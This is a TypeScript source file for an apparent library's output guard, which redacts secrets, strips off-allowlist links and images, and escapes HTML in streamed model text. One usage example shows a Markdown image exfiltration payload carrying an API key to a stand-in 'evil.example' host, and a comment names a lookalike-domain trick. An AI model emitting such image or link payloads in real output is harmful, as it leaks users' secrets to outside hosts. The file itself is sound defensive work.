/**
 * The output guard: what a model (or an extractive answerer quoting documents) streams to a
 * user never carries a secret, an image or link to a host off the allowlist, or raw HTML. It
 * wraps any `AsyncIterable<StreamPart>`, or guards plain text through an incremental
 * transformer. Text is cut only after whitespace that no construct spans, each piece is redacted
 * with the same rules as logs and then sanitised as Markdown, so the output is the same however
 * the text was split into deltas.
 */
import { InvalidArgumentError, type StreamPart } from '@keel/core';
import { assertNumber } from '@keel/core/internal';
import { KEEL, METRICS } from './attributes';
import type { MetricsRecorder } from './metrics-registry';
import { CutTracker, secretMayContinue } from './output-guard-cuts';
import {
  escapeFenceStart,
  FENCE_PREFIX,
  type Fence,
  LINK_REMOVED,
  type MarkdownContext,
  type OutputGuardDecisionKind,
  sanitizeMarkdown,
  URL_STARTS,
} from './output-guard-markdown';
import { TableLines } from './output-guard-tables';
import { normalizeAllowedHost } from './output-guard-urls';
import { createTextRedactor, type RedactOptions } from './redact';
import type { SpanLike } from './span-types';

export type { OutputGuardDecisionKind } from './output-guard-markdown';

/** One thing the guard changed. */
export interface OutputGuardDecision {
  kind: OutputGuardDecisionKind;
  /**
   * What matched: the redaction rule's id for `secret-redacted` (`openai-key`, `jwt`...);
   * `markdown-image`, `reference-image` or `html-image` for `image-removed`; `markdown-link`,
   * `reference-definition`, `autolink` or `bare-url` for `link-removed`; `html-tag` for
   * `html-escaped`.
   */
  rule: string;
}

/** Options of {@link createOutputGuard}. */
export interface OutputGuardOptions {
  /**
   * Hosts whose links and images are kept, subdomains included (`'docs.example.com'` keeps
   * `https://api.docs.example.com/x`, not `https://docs.example.com.evil.com`). Default: none,
   * so only relative links (`/guide`, `#install`) stay.
   */
  allowedHosts?: readonly string[];
  /**
   * The redaction rules, as for logs (`rules`, `disable`); default the same
   * `DEFAULT_REDACTION_RULES` logs use, PII included (`disable: ['email', 'phone']` to keep
   * contact details in answers). Other redaction options do not apply to streamed text.
   */
  redaction?: Pick<RedactOptions, 'rules' | 'disable'>;
  /** Raw HTML outside code: `'escape'` (the only mode) turns `<tag>` into `&lt;tag&gt;`. */
  html?: 'escape';
  /**
   * Most characters held back while a construct is open (a link, a tag, a code span, a private
   * key), default 8,192; past it the held text is released in one piece, with a line break if
   * that cuts a word, so no URL survives across the cut. At least 1,024. As many again may be
   * held of a line that may be a table's delimiter row (`|---|`).
   */
  maxHeldChars?: number;
  /** Told every decision, as it is taken (a hook that throws is ignored). */
  onDecision?: (decision: OutputGuardDecision) => void;
  /** Counts decisions in `keel.output_guard.decisions` by `kind` and `rule`. */
  metrics?: MetricsRecorder;
  /**
   * The span decisions are recorded on, as `keel.output_guard.decision` events with
   * `keel.output_guard.kind` and `.rule`: a span, or a function returning the current one
   * (`() => trace.getActiveSpan()` with OpenTelemetry).
   */
  span?: SpanLike | (() => SpanLike | undefined);
}

/** Guards plain text incrementally; `push` and `flush` return the text that is safe to show. */
export interface OutputTextGuard {
  /** Adds text; returns what can be released (possibly `''`). */
  push(text: string): string;
  /** Releases everything held (at the end of the text). */
  flush(): string;
  /** Characters held back now. */
  readonly held: number;
}

/** The guard {@link createOutputGuard} returns. */
export interface OutputGuard {
  /**
   * Guards a stream: `text-delta` and `reasoning-delta` text is guarded (each on its own);
   * every other part is passed on in order, after the text before it has been released. On
   * `finish`, an `error` part, a thrown error or the consumer's early return, held text is
   * flushed (through the guard; on early return it is guarded but not delivered).
   */
  guard(parts: AsyncIterable<StreamPart>): AsyncIterable<StreamPart>;
  /** A new incremental text guard (one per text). */
  text(): OutputTextGuard;
  /** Guards a whole text at once. */
  guardText(text: string): string;
}

/**
 * The end of text released where more may follow after another part (a reasoning or tool part
 * between): a `\\` or `<` there could escape or open what follows once a renderer joins the
 * two, so it is written as the same character in a form that cannot.
 */
function sealEnd(text: string): string {
  let end = text.length;
  while (end > 0 && text[end - 1] === '\\') end--;
  const trailing = text.length - end;
  if (trailing > 0) return trailing % 2 === 1 ? `${text}\\` : text;
  let before = end - 1;
  while (before > 0 && text[before - 1] === '\\') before--;
  // The last character, unless a backslash escapes it.
  if ((end - 1 - before) % 2 === 1) return text;
  return text.endsWith('<') ? `${text.slice(0, -1)}&lt;` : text;
}

/** The most of a word kept to check across parts (a URL's start is nearer its end). */
const MAX_TAIL_WORD = 4_096;

/** Event name of a decision on a span. */
const DECISION_EVENT = 'keel.output_guard.decision';

/**
 * Creates an output guard.
 *
 * @example
 * ```ts
 * const guard = createOutputGuard({ allowedHosts: ['docs.example.com'], metrics: obs.metrics });
 * for await (const part of guard.guard(model.stream(request))) {
 *   if (part.type === 'text-delta') res.write(part.text);
 * }
 * guard.guardText('See ![x](https://evil.example/p.png?k=sk-proj-...)'); // 'See (image removed: x)'
 * ```
 */
export function createOutputGuard(options: OutputGuardOptions = {}): OutputGuard {
  const {
    allowedHosts = [],
    redaction = {},
    html = 'escape',
    maxHeldChars = 8_192,
    onDecision,
    metrics,
    span,
  } = options;
  if (!Array.isArray(allowedHosts)) {
    throw new InvalidArgumentError({
      argument: 'allowedHosts',
      message: `allowedHosts must be an array of host names such as ['docs.example.com'], got ${typeof allowedHosts}`,
    });
  }
  const hosts = allowedHosts.map(normalizeAllowedHost);
  if (html !== 'escape') {
    throw new InvalidArgumentError({
      argument: 'html',
      message: `html must be 'escape' (raw HTML is always escaped), got ${JSON.stringify(html)}`,
    });
  }
  assertNumber('maxHeldChars', maxHeldChars, { integer: true, min: 1_024, unit: 'characters' });
  if (onDecision !== undefined && typeof onDecision !== 'function') {
    throw new InvalidArgumentError({
      argument: 'onDecision',
      message: `onDecision must be a function, got ${typeof onDecision}`,
    });
  }
  if (
    span !== undefined &&
    typeof span !== 'function' &&
    typeof (span as Partial<SpanLike> | null)?.addEvent !== 'function'
  ) {
    throw new InvalidArgumentError({
      argument: 'span',
      message: 'span must be a span (with addEvent) or a function returning the current span',
    });
  }
  const redactor = createTextRedactor(redaction);

  function decide(kind: OutputGuardDecisionKind, rule: string): void {
    const decision: OutputGuardDecision = { kind, rule };
    for (const report of [
      () => onDecision?.(decision),
      () => metrics?.add(METRICS.outputGuardDecisions, 1, { kind, rule }),
      () => {
        const target = typeof span === 'function' ? span() : span;
        if (target?.isRecording()) {
          target.addEvent(DECISION_EVENT, {
            [KEEL.outputGuardKind]: kind,
            [KEEL.outputGuardRule]: rule,
          });
        }
      },
    ]) {
      try {
        report();
      } catch {
        // Reporting must never break the stream it guards.
      }
    }
  }
  const context: MarkdownContext = { allowedHosts: hosts, decide };

  function text(): OutputTextGuard & {
    /** Releases everything held where more text follows after another part (see `sealEnd`). */
    cut(): string;
  } {
    const tracker = new CutTracker(maxHeldChars);
    let held = '';
    let fence: Fence | undefined;
    let lineStart = true;
    const tables = new TableLines(maxHeldChars);
    /** A forced cut split a word: the rest of it may be the rest of a URL. */
    let wordCut = false;
    /**
     * The word the text released so far ends in, begun before earlier parts too (`ht`, a part,
     * `tps`): a renderer joins it to the text after a part, which must not make it a URL or
     * carry one on.
     */
    let tailWord = '';
    /** The line released before another part may still become a fence (see `release`). */
    let openLine = false;
    /** The text released before another part ended in a `]` (see `release`). */
    let afterBracket = false;
    /** The last character read was `\r`, read as a line break. */
    let afterReturn = false;

    /**
     * Redacts and sanitises one piece that ends where a cut is allowed; `sealed`: text follows
     * it after another part, so its end is sealed.
     */
    function release(piece: string, sealed = false): string {
      if (piece === '') return '';
      let redacted = redactor.redact(piece, (id) => decide('secret-redacted', id));
      let head = '';
      const rest = /^\S+/.exec(redacted)?.[0] ?? '';
      // Only text after another part joins a word released before it (`tailWord` is empty after
      // a cut at whitespace).
      const joinsUrl =
        tailWord !== '' &&
        rest !== '' &&
        [...`${tailWord}${rest}`.matchAll(URL_STARTS)].some(
          (start) => start.index < tailWord.length,
        );
      if ((wordCut && /[:/\\.@]/.test(rest)) || joinsUrl) {
        decide('link-removed', 'bare-url');
        head = LINK_REMOVED;
        redacted = redacted.slice(rest.length);
      }
      wordCut = false;
      // A line cut short by another part while it could still become a fence (`~~`, `> `):
      // its first fence character is escaped, in the text it ends with or the text going on.
      const continued = openLine && head === '';
      if (continued) redacted = escapeFenceStart(redacted);
      // `[x]` before the part and `(javascript:…)`, `: url` or `[ref]` after it: no link.
      if (afterBracket && head === '' && /^[(:[]/.test(redacted)) redacted = `\\${redacted}`;
      openLine = false;
      afterBracket = false;
      const lineAt = redacted.lastIndexOf('\n') + 1;
      const last = redacted.slice(lineAt);
      if (sealed && head === '' && (lineAt > 0 || lineStart || continued) && last !== '') {
        // A fence line cut short may be none once it goes on (`` ```a `` and a backtick after).
        const escaped = escapeFenceStart(last);
        redacted = redacted.slice(0, lineAt) + escaped;
        openLine = escaped === last && [...last].every((char) => FENCE_PREFIX.test(char));
      }
      const result = sanitizeMarkdown(
        redacted,
        { fence, lineStart: lineStart && head === '', tables },
        context,
      );
      fence = result.fence;
      lineStart = redacted.endsWith('\n');
      return follow(tables.feed(head + (sealed && !fence ? sealEnd(result.text) : result.text)));
    }

    /** Keeps the word `released` ends in, joined to the one before when it has no space. */
    function follow(released: string): string {
      const space = Math.max(...[' ', '\n', '\t'].map((c) => released.lastIndexOf(c)));
      tailWord = (space === -1 ? tailWord + released : released.slice(space + 1)).slice(
        -MAX_TAIL_WORD,
      );
      return released;
    }

    return {
      get held() {
        return held.length + tables.held;
      },
      push(delta) {
        if (typeof delta !== 'string') {
          throw new InvalidArgumentError({
            argument: 'text',
            message: `push takes a string, got ${typeof delta}`,
          });
        }
        let out = '';
        for (let i = 0; i < delta.length; i++) {
          let char = delta[i] as string;
          // Line breaks as a renderer reads them: `\r\n` and `\r` are each one `\n`.
          if (afterReturn && char === '\n') {
            afterReturn = false;
            continue;
          }
          afterReturn = char === '\r';
          if (afterReturn) char = '\n';
          held += char;
          tracker.feed(char);
          if (/\s/.test(char) && !tracker.open() && !secretMayContinue(held, redactor.rules)) {
            out += release(held);
            held = '';
          } else if (held.length >= maxHeldChars && !/[\uD800-\uDBFF]/.test(char)) {
            // Forced: a blank line after the piece, so that no word, URL, link, tag or code
            // span runs on across the cut.
            tracker.feed('\n');
            tracker.feed('\n');
            tracker.reset();
            out += release(`${held}\n\n`);
            held = '';
            wordCut = !/\s/.test(char);
          }
        }
        return out;
      },
      flush() {
        const out = release(held) + tables.flush();
        held = '';
        return out;
      },
      cut() {
        const out = release(held, true) + follow(tables.flush());
        held = '';
        if (out !== '') afterBracket = /(?:^|[^\\])(?:\\\\)*\]$/.test(out.slice(-64));
        return out;
      },
    };
  }

  return {
    text,
    guardText(input) {
      const guard = text();
      return guard.push(input) + guard.flush();
    },
    async *guard(parts) {
      const answer = text();
      const reasoning = text();
      let flushed = false;
      /**
       * Everything held, as parts (at most one of the two holds text at a time); `more`: the
       * stream goes on, so the ends are sealed.
       */
      function flushAll(more = false): StreamPart[] {
        flushed = true;
        const out: StreamPart[] = [];
        const thought = more ? reasoning.cut() : reasoning.flush();
        if (thought !== '') out.push({ type: 'reasoning-delta', text: thought });
        const said = more ? answer.cut() : answer.flush();
        if (said !== '') out.push({ type: 'text-delta', text: said });
        return out;
      }
      try {
        for await (const part of parts) {
          if (part.type === 'text-delta') {
            const thought = reasoning.cut();
            if (thought !== '') yield { type: 'reasoning-delta', text: thought };
            const out = answer.push(part.text);
            if (out !== '') yield { ...part, text: out };
          } else if (part.type === 'reasoning-delta') {
            const said = answer.cut();
            if (said !== '') yield { type: 'text-delta', text: said };
            // A signature ends the reasoning block: its text is released with it.
            const out =
              part.signature === undefined
                ? reasoning.push(part.text)
                : reasoning.push(part.text) + reasoning.cut();
            if (out !== '' || part.signature !== undefined) yield { ...part, text: out };
          } else {
            yield* flushAll(true);
            flushed = false;
            yield part;
          }
        }
        yield* flushAll();
      } catch (error) {
        // Held text is delivered before the error propagates.
        if (!flushed) yield* flushAll();
        throw error;
      } finally {
        // The consumer returned early: held text still goes through the guard (its decisions
        // are reported), but nothing more is delivered.
        if (!flushed) flushAll();
      }
    },
  };
}
